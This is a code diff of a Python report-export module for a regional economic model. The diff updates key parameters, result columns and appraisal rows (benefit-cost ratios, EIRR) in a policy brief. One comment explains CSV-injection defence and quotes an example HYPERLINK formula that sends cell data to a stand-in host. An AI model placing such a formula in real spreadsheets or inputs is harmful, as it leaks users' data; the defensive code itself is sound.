@@ -18,26 +18,26 @@ from typing import Any
 
 import pandas as pd
 
-from model import ALL_SETTINGS, MODEL_VERSION, OUTPUTS
+from model import ALL_SETTINGS, DEFAULT_RATE, MODEL_VERSION, OUTPUTS
+from model.levers import YEAR_KEYS
 from model.parameters import parameter_table
 from report import BriefContent, BriefRow, build_brief_html, chart_png, chart_svg, number_locale
 from ui import figures
 from ui.compute import Result
 from ui.i18n import fmt_num, fmt_signed, translate
-from ui.results import YEARLY_KPIS, net_npv, value_at
+from ui.results import YEARLY_KPIS, fmt_appraisal, net_npv, value_at
+from ui.state import GROUPS
 
 #: The charts offered as images, in page order.
 CHART_IDS = figures.CHART_IDS
 #: The parameters that matter most for the results, shown in the brief.
-KEY_PARAMETERS = ("infra_elasticity", "yield_ratio_irr", "water_cap_ha",
-                  "road_cost_mln_som_per_km", "sme_va_per_firm_mln_som", "regional_multiplier")
+KEY_PARAMETERS = ("infra_elasticity", "road_trunk_cost_mln_som_per_km", "yield_ratio_irr",
+                  "irr_cost_new_mln_som_per_ha", "water_cap_ha", "sme_deadweight")
 #: Lever order of the sidebar (roads, irrigation, SMEs, context, programme years).
-SETTING_ORDER = ("infrastructure_spend", "road_maintenance", "irrigation_new_ha",
-                 "irrigation_rehab_ha", "sme_support", "apricot_price", "water_availability",
-                 "mining_growth", "start_year", "end_year")
-YEAR_KEYS = frozenset({"start_year", "end_year"})
+SETTING_ORDER = tuple(k for _, keys in GROUPS for k in keys)
 EXPORT_WIDTH = 720
-RESULT_COLUMNS = ("year", *OUTPUTS, "grp_baseline", "grp_vs_baseline", "grp_programme_gain")
+RESULT_COLUMNS = ("year", *OUTPUTS, "grp_baseline", "grp_vs_baseline", "grp_programme_gain",
+                  "grp_construction_demand", "grp_lasting_gain")
 XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 #: First characters that make a spreadsheet read a cell as a formula ("CSV injection",
 #: OWASP): a scenario name ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` would be a
@@ -222,9 +222,17 @@ def _kpi_rows(result: Result, year: int, lang: str) -> list[BriefRow]:
                              fmt_num(value, kpi.digits, lang=lang),
                              fmt_signed(value - base, kpi.digits, lang=lang)))
     dash = "–"
-    rows.append(BriefRow(translate(lang, "brief.bcr"), dash, fmt_num(result.bcr, 2, lang=lang),
-                         dash))
-    rows.append(BriefRow(translate(lang, "brief.npv"), dash, fmt_num(net_npv(result), lang=lang),
+    na = translate(lang, "common.na")
+
+    def num(value: float, digits: int = 0) -> str:
+        return fmt_num(value, digits, lang=lang)
+
+    ratios = " / ".join(fmt_appraisal("ratio", s["bcr"], num, na)
+                        for s in result.appraisal.values())
+    rows.append(BriefRow(translate(lang, "brief.bcr"), dash, ratios, dash))
+    rows.append(BriefRow(translate(lang, "brief.npv"), dash, num(net_npv(result)), dash))
+    rows.append(BriefRow(translate(lang, "brief.eirr"), dash,
+                         fmt_appraisal("pct", result.appraisal[DEFAULT_RATE]["eirr"], num, na),
                          dash))
     return rows
 
@@ -234,7 +242,7 @@ def _assumptions(lang: str) -> list[str]:
     out = []
     for name in KEY_PARAMETERS:
         p = params[name]
-        source = p.source if len(p.source) <= 110 else p.source[:107].rstrip() + "…"
+        source = p.source  # whole: a planner must be able to look it up
         out.append(translate(lang, "brief.assumption", name=translate(lang, f"brief.param.{name}"),
                              value=fmt_short(p.value, lang), low=fmt_short(p.low, lang),
                              high=fmt_short(p.high, lang), source=source))
